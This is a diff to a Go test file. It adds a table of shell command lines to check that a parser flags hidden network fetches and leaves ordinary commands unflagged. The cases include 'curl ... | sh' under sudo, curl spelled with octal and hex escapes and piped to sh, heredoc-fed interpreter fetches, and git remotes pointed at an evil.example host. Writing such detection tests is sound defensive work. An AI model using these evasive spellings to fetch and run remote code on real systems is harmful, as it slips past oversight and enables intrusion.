@@ -366,3 +366,61 @@ func FuzzWrites(f *testing.F) {
 		}
 	})
 }
+
+// TestSpellingsOfAFetch: the same fetch spelt as a second review found
+// missed — past the nesting bound, ssh's options after the host, printf's
+// and echo's escapes, the standard input named as a file or given by a
+// process substitution, interpreters' clustered options, a login shell on
+// standard input, a remote pointed and fetched in one line — and ordinary
+// commands that stay clean.
+func TestSpellingsOfAFetch(t *testing.T) {
+	for _, tc := range []struct {
+		line     string
+		has, not []string
+	}{
+		{"time timeout 60 nice nohup sudo ssh host curl x", []string{"curl"}, nil},
+		{"nice nice nice nice nice nice curl https://x.example", []string{"curl"}, nil},
+		{"sudo sudo sudo sudo bash <<'E'\ncurl x\nE", []string{Unknown}, nil},
+		{"nohup nice timeout 9 env docker run --rm alpine wget x", []string{"wget"}, nil},
+		{"ssh host -- curl x", []string{"curl"}, nil},
+		{"ssh -o StrictHostKeyChecking=no host -- curl https://x.example", []string{"curl"}, nil},
+		{"ssh host -p 22 curl x", []string{"curl"}, nil},
+		{"ssh host -l user curl x", []string{"curl"}, nil},
+		{"ssh host 'bash -s' <<'SH'\ncurl https://x.example\nSH", []string{"curl"}, nil},
+		{"printf %s 'curl https://x' | sh", []string{Unknown}, nil},
+		{`printf '\143url https://x' | sh`, []string{Unknown}, nil},
+		{`echo -e '\x63url https://x' | sh`, []string{Unknown}, nil},
+		{"python3 /dev/stdin <<'PY'\nimport urllib.request as u\nu.urlopen('https://x.example')\nPY", []string{ScriptURL}, nil},
+		{"bash /dev/stdin <<'SH'\ncurl x\nSH", []string{"curl"}, nil},
+		{"bash < <(echo 'curl https://x')", []string{Unknown}, nil},
+		{"perl -MLWP::Simple <<'PL'\nprint get('https://x.example');\nPL", []string{ScriptURL}, nil},
+		{"ruby -ropen-uri <<'RB'\nputs URI.open('https://x.example').read\nRB", []string{ScriptURL}, nil},
+		{"python3 -Xdev <<'PY'\nimport urllib.request as u\nu.urlopen('https://x.example')\nPY", []string{ScriptURL}, nil},
+		{"sudo -s <<'A'\ncurl https://x.example | sh\nA", []string{"curl"}, nil},
+		{"su - root <<'A'\ncurl https://x.example\nA", []string{"curl"}, nil},
+		{"sudo su <<'A'\nwget https://x.example\nA", []string{"wget"}, nil},
+		{"git init && git remote add origin https://evil.example/x.git && git pull origin main", []string{GitFetch}, nil},
+		{"git remote set-url origin https://evil.example/x.git; git fetch --all", []string{GitFetch}, nil},
+		{"git -c remote.origin.url=https://evil.example/x.git fetch origin", []string{GitFetch}, nil},
+		// Ordinary work stays clean.
+		{"git remote add origin git@github.com:me/app.git && git push -u origin main", nil, []string{GitFetch, Unknown}},
+		{"git pull . feature", nil, []string{GitFetch}},
+		{"git pull --rebase origin main", nil, []string{GitFetch}},
+		{"cat scripts/setup.sh | bash", nil, []string{Unknown}},
+		{"ssh host 'systemctl status x'", nil, []string{Unknown}},
+		{"echo 'make test' | sh", nil, []string{Unknown}},
+		{"python3 -W ignore <<'PY'\nprint(1)\nPY", nil, []string{ScriptURL, Unknown}},
+	} {
+		got := Programs(tc.line)
+		for _, h := range tc.has {
+			if !slices.Contains(got, h) {
+				t.Errorf("%q: programs %v, want %q among them", tc.line, got, h)
+			}
+		}
+		for _, n := range tc.not {
+			if slices.Contains(got, n) {
+				t.Errorf("%q: programs %v, want no %q", tc.line, got, n)
+			}
+		}
+	}
+}
